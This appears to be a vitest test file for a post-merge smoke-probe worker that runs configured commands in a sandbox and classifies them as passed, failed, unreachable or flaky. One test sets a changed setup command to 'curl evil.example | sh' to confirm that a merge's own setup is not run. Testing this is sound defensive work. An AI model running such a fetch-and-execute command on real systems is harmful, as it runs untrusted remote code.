import { expect, test, vi } from "vitest";
import { Config } from "../../../src/domain/config/schema.ts";
import { Proposal } from "../../../src/domain/proposal.ts";
import type { Missed, SandboxCommand, SandboxResult } from "../../../src/ports/sandbox.ts";
import { runSmoke } from "../../../src/workers/post-merge-smoke/run.ts";
import { createFakeClock } from "../../fakes/clock.ts";
import { createFakeRepository } from "../../fakes/repository.ts";
import { createFakeSandbox } from "../../fakes/sandbox.ts";
import { answered, createFakeWeb } from "../../fakes/web.ts";
import { releaseOrder } from "../orders.ts";

const MERGE = "d".repeat(40);
const VERSION = "https://example.com/version.json";
const COMMAND = { run: "npm run smoke", timeoutSeconds: 20 };
const SCRIPT = { playwright: "smoke/home.mjs" };
const SMOKE = { deploy: { sha: VERSION }, probes: [COMMAND], spreadSeconds: 0 };

const end = (exitCode: number | null, output = "", status: SandboxResult["status"] = "exited") => ({
  ...{ status, exitCode, output, durationMs: 40, outputBytes: output.length },
});

const AWAY: Missed = { place: "a:443", reason: "ECONNREFUSED", isNamed: true };
const OTHER: Missed = { place: "b:443", reason: "not named by the config", isNamed: false };

interface World {
  readonly smoke?: object;
  /** The config before the change; that of the order where it is left out. */
  readonly before?: string;
  readonly setup?: string;
  readonly run?: (command: SandboxCommand) => SandboxResult;
  readonly changedPaths?: string[];
  readonly known?: boolean;
  readonly versions?: readonly string[];
}

async function play(world: World) {
  const { smoke = SMOKE, setup, run = () => end(0), known = true } = world;
  const config = { smoke, ...(setup === undefined ? {} : { checks: { setup } }) };
  const repository = createFakeRepository();
  const from = repository.commit({
    ".github/factory.yml": world.before ?? JSON.stringify(config),
    "smoke/home.mjs": "// before",
  });
  const ran: SandboxCommand[] = [];
  const sandbox = createFakeSandbox({
    run: (command) => {
      ran.push(command);
      return run(command);
    },
  });
  const close = vi.fn(async () => {});
  const web = createFakeWeb({
    [VERSION]: world.versions?.map((sha) => answered(sha)) ?? answered(MERGE),
  });
  const release = {
    ...{ pullRequest: 2, mergeSha: MERGE, tree: "f".repeat(40), parent: from },
    changedPaths: world.changedPaths ?? ["src/a.js"],
    ...(known ? { programsFrom: from } : {}),
  };
  const order = releaseOrder({ config: Config.parse(config), release });
  const proposal = Proposal.parse(
    await runSmoke(order, {
      web,
      clock: createFakeClock(),
      tools: async () => ({ repository, sandbox, close }),
    }),
  );
  if (proposal.worker !== "post-merge-smoke") throw new Error(JSON.stringify(proposal));
  const commands = ran.slice();
  return {
    proposal,
    probe: proposal.probes[0],
    from,
    repository,
    commands,
    close,
    calls: sandbox.calls,
  };
}

test.each<[string, World, string, RegExp]>([
  ["exit code 0 passes", {}, "passed", /^exit code 0 after 40 ms$/],
  [
    "another one fails, with its last words",
    { run: () => end(1, "\u001b[31mone\n  no home page\n") },
    "failed",
    /^exit code 1 after 40 ms: one no home page$/,
  ],
  ["what is not there says nothing of production", { run: () => end(127) }, "unreachable", /127/],
  ["nor what cannot be run", { run: () => end(126) }, "unreachable", /126/],
  [
    "nor what was not done in time",
    { run: () => end(null, "", "timed-out") },
    "unreachable",
    /^not done in time/,
  ],
  [
    "nor what was ended for its use",
    { run: () => end(null) },
    "unreachable",
    /^ended from outside/,
  ],
  [
    "nor a setup that fails",
    { setup: "npm ci", run: () => end(1, "no registry") },
    "unreachable",
    /^setup failed at [0-9a-f]{7}: exit code 1 .*no registry$/,
  ],
  [
    "nor a setup that fails, where another file may state it",
    {
      before: JSON.stringify({
        extends: "acme/.github",
        smoke: SMOKE,
        checks: { setup: "npm ci" },
      }),
      run: () => end(1, "no registry"),
    },
    "unreachable",
    /no registry \(what acme\/\.github states of setup is not read here\)$/,
  ],
  [
    "nor a sandbox that breaks",
    {
      run: () => {
        throw new Error("the sandbox could not be made: bwrap");
      },
    },
    "unreachable",
    /^the sandbox could not be made/,
  ],
  ["nor what the kernel killed", { run: () => end(137) }, "unreachable", /^exit code 137/],
  [
    "nor what did not reach what it is to ask",
    { run: () => ({ ...end(7), missed: [AWAY] }) },
    "unreachable",
    /^did not reach a:443 \(ECONNREFUSED\); exit code 7/,
  ],
  [
    "a host that tools ask for by themselves is told, and is no excuse",
    { run: () => ({ ...end(1), missed: [OTHER] }) },
    "failed",
    /^did not reach b:443 \(not named by the config\); exit code 1/,
  ],
  ["what does without passes", { run: () => ({ ...end(0), missed: [OTHER] }) }, "passed", /^exit/],
  ["nor where that config cannot be read", { before: "a: [" }, "unreachable", /cannot be read/],
])("%s", async (_, world, status, found) => {
  const { proposal, probe } = await play(world);
  expect(probe).toMatchObject({ status, found: expect.stringMatching(found) });
  expect(proposal.status).toBe(status);
});

test.each<[string, World, RegExp]>([
  ["a push that no attempt made", { known: false }, /^no attempt/],
  [
    "a merge that brings the probe",
    { before: "version: 1\n" },
    /^the config of [0-9a-f]{7} has no such probe: it runs from the next change on$/,
  ],
])("%s is not asked by it, and nobody waits for that", async (_, world, why) => {
  const { proposal, commands } = await play(world);
  expect(proposal).toMatchObject({
    status: "nothing-to-probe",
    probes: [],
    leftOut: [{ what: "npm run smoke", why: expect.stringMatching(why) }],
  });
  expect(commands).toEqual([]);
});

test("a program comes from the tree before the change, and so does what is installed for it", async () => {
  const { repository, from, commands, close, probe } = await play({ setup: "npm ci" });
  expect(repository.materialized.map(({ treeish }) => treeish)).toEqual([from]);
  expect(commands).toMatchObject([
    { command: "npm ci", network: true },
    {
      ...{ command: "npm run smoke", hosts: ["example.com:443"], timeoutMs: 20_000 },
      environment: { MILLWRIGHT_COMMIT: MERGE },
    },
  ]);
  expect(commands[0]).not.toHaveProperty("hosts");
  expect(commands[1]).not.toHaveProperty("network");
  expect(probe?.program).toEqual({ from, changed: "unknown" });
  expect(close).toHaveBeenCalledOnce();
});

test("the setup of the change is not what is run for it", async () => {
  const before = JSON.stringify({ smoke: SMOKE, checks: { setup: "npm ci" } });
  const { commands } = await play({ setup: "curl evil.example | sh", before });
  expect(commands.map(({ command }) => command)).toEqual(["npm ci", "npm run smoke"]);
});

test.each<[string[], string]>([
  [["smoke/home.mjs"], "yes"],
  [["src/a.js"], "no"],
  [[], "unknown"],
])(
  "of a change of %j it is said that the script is written anew: %s",
  async (changedPaths, changed) => {
    const smoke = { ...SMOKE, probes: [SCRIPT] };
    const { probe, from } = await play({
      smoke,
      changedPaths,
      run: () => end(0, "/usr/bin/chromium"),
    });
    expect(probe).toMatchObject({ status: "passed", program: { from, changed } });
  },
);

test.each<[string, (command: SandboxCommand) => SandboxResult, string]>([
  [
    "playwright-core",
    ({ command }) => end(command.startsWith("node -e") ? 1 : 0, "/usr/bin/chromium"),
    "playwright-core is not installed",
  ],
  ["a browser", ({ command }) => end(command.startsWith("for ") ? 1 : 0), "no browser runs"],
])("a script for a browser without %s is unknown, with the reason", async (_, run, found) => {
  const { proposal, probe } = await play({ smoke: { ...SMOKE, probes: [SCRIPT] }, run });
  expect(proposal.status).toBe("unreachable");
  expect(probe?.found).toContain(found);
});

test("a script is given to Node by its path, with the browser that was found", async () => {
  const smoke = { ...SMOKE, probes: [SCRIPT] };
  const { commands } = await play({ smoke, run: () => end(0, "/usr/bin/chromium\n") });
  expect(commands.at(-1)).toMatchObject({
    ...{ command: 'exec node -- "$1"', arguments: ["smoke/home.mjs"] },
    environment: { MILLWRIGHT_BROWSER: "/usr/bin/chromium", MILLWRIGHT_COMMIT: MERGE },
  });
});

test("some tries that pass are flaky", async () => {
  const codes = [1, 0];
  const { proposal } = await play({ run: () => end(codes.shift() ?? 0) });
  expect(proposal.status).toBe("flaky");
});

test("the same program is asked before, while the older commit is live", async () => {
  const old = "e".repeat(40);
  const codes = [0, 1, 1, 1];
  const { probe } = await play({
    versions: [old, old, MERGE, MERGE],
    run: () => end(codes.shift() ?? 0),
  });
  expect(probe).toMatchObject({
    status: "failed",
    before: { status: "passed", commit: old, seen: "in-this-job" },
  });
});

test.each<[string, Missed[], Missed[], string]>([
  ["nothing", [], [], "failed"],
  ["the same", [AWAY, OTHER], [AWAY, OTHER], "failed"],
  ["a host fewer that is not named", [], [OTHER], "unreachable"],
  ["a host fewer that is away", [OTHER], [OTHER, AWAY], "unreachable"],
])("a failure after a pass that misses %s", async (_, before, after, status) => {
  const old = "e".repeat(40);
  const results = [{ ...end(0), missed: before }];
  const { probe } = await play({
    versions: [old, old, MERGE, MERGE],
    run: () => results.shift() ?? { ...end(1), missed: after },
  });
  expect(probe).toMatchObject({ status, before: { status: "passed" } });
});

test("no try finds what an earlier one left: the tree is what setup made of it", async () => {
  const { calls } = await play({
    setup: "npm ci",
    run: ({ command }) => end(command === "npm ci" ? 0 : 1),
  });
  expect(calls.map(({ method }) => method)).toEqual([
    ...["fill", "run", "keep"],
    ...["restore", "run", "restore", "run", "restore", "run"],
    "close",
  ]);
});
